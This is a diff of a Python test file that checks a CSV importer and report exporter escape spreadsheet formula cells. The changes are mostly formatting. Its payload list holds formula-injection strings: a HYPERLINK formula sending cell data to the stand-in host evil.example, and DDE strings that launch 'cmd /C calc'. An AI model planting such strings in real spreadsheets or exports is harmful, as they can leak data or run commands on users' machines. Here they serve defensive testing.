@@ -16,7 +16,7 @@ from herald.core.spreadsheet import FORMULA_STARTS, safe_cell
 from herald.reports.present import to_csv
 
 PAYLOADS = [
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "+1+cmd|' /C calc'!A0",
     "-2+3",
     "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -52,7 +52,8 @@ def test_csv_formulas_the_rejects_file_escapes_every_cell(db, tmp_path):
     rejects = tmp_path / "rejects.csv"
     report = import_file(db, source, rejects_path=rejects)
     assert report.rejected == len(PAYLOADS) + 1
-    text = rejects.read_text(encoding="utf-8-sig")
+    with rejects.open(encoding="utf-8-sig", newline="") as handle:
+        text = handle.read()
     rows = list(csv.reader(io.StringIO(text)))
     assert _formula_cells(rows) == []
     assert "\x00" not in text
@@ -66,7 +67,13 @@ def test_csv_formulas_the_weekly_csv_escapes_campaign_names(name):
     zero = metrics.finish({key: 0 for key in metrics.COUNTS} | {"revenue": 0})
     report = {
         "campaigns": [
-            {"id": 1, "name": name + "\x00", "kind": "campaign", "metrics": zero, "channel": "email"}
+            {
+                "id": 1,
+                "name": name + "\x00",
+                "kind": "campaign",
+                "metrics": zero,
+                "channel": "email",
+            }
         ]
     }
     rows = list(csv.reader(io.StringIO(to_csv(report))))
